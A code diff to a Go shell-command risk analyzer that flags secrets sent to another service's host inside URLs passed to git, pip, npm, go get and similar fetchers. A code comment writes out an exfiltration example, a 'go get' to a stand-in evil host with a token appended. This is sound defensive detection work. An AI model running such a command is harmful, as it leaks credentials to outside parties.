@@ -775,8 +775,45 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 		if w.taint && s.net || w.secretName != "" && s.net && secretOffService(w.secretName, a.hostsOf(idx)) {
 			f.floor = reason("floor.exfil", "a secret or the environment is sent to the network")
 		}
+		// git clone, pip install -i, npm i URL fetch the URL they are given:
+		// a token in it goes to that host as surely as with curl
+		if w.secretName != "" && urlFetchers[lb] {
+			h := urlHost(w.val)
+			if p, _, _ := strings.Cut(w.val, "/"); h == "" && lb == "go" && strings.Contains(p, ".") {
+				h = p // go get evil.com/m@$TOKEN: a module path starts with its host
+			}
+			if h != "" && secretOffService(w.secretName, []string{h}) {
+				f.floor = reason("floor.exfil", lb+" sends a secret to another service's host in a URL")
+			}
+		}
 	}
 	return s
+}
+
+// urlFetchers are package managers and VCS tools that fetch a URL operand
+// or option value.
+var urlFetchers = map[string]bool{"git": true, "pip": true, "pip3": true, "uv": true, "pipx": true, "poetry": true, "npm": true,
+	"pnpm": true, "yarn": true, "bun": true, "go": true, "cargo": true, "gem": true, "bundle": true, "composer": true,
+	"helm": true, "docker": true, "podman": true, "svn": true, "hg": true, "brew": true}
+
+// urlHost is the host of a URL inside v (scheme://[user@]host[:port]/…,
+// or git's user@host:path), or "".
+func urlHost(v string) string {
+	if i := strings.Index(v, "://"); i >= 0 {
+		v = v[i+3:]
+		v, _, _ = strings.Cut(v, "/")
+		if j := strings.LastIndexByte(v, '@'); j >= 0 {
+			v = v[j+1:]
+		}
+		v, _, _ = strings.Cut(v, ":")
+		return v
+	}
+	if at := strings.IndexByte(v, '@'); at > 0 {
+		if h, _, ok := strings.Cut(v[at+1:], ":"); ok && !strings.Contains(h, "/") {
+			return h
+		}
+	}
+	return ""
 }
 
 // hostsOf lists the hosts command idx connects to.
@@ -3297,8 +3334,15 @@ loop:
 	}
 	switch sub {
 	case "push", "fetch", "pull", "clone", "ls-remote", "submodule", "send-email", "request-pull", "archive":
+		var hosts []string
 		for _, w := range args {
-			if w.taint {
+			if h := urlHost(w.val); h != "" {
+				hosts = append(hosts, h)
+			}
+		}
+		for _, w := range args {
+			// a token in the URL or an -c http.extraHeader goes to the URL's host
+			if w.taint || w.secretName != "" && secretOffService(w.secretName, hosts) {
 				g.floor = reason("floor.exfil", "a secret is sent to the network by git")
 			}
 		}
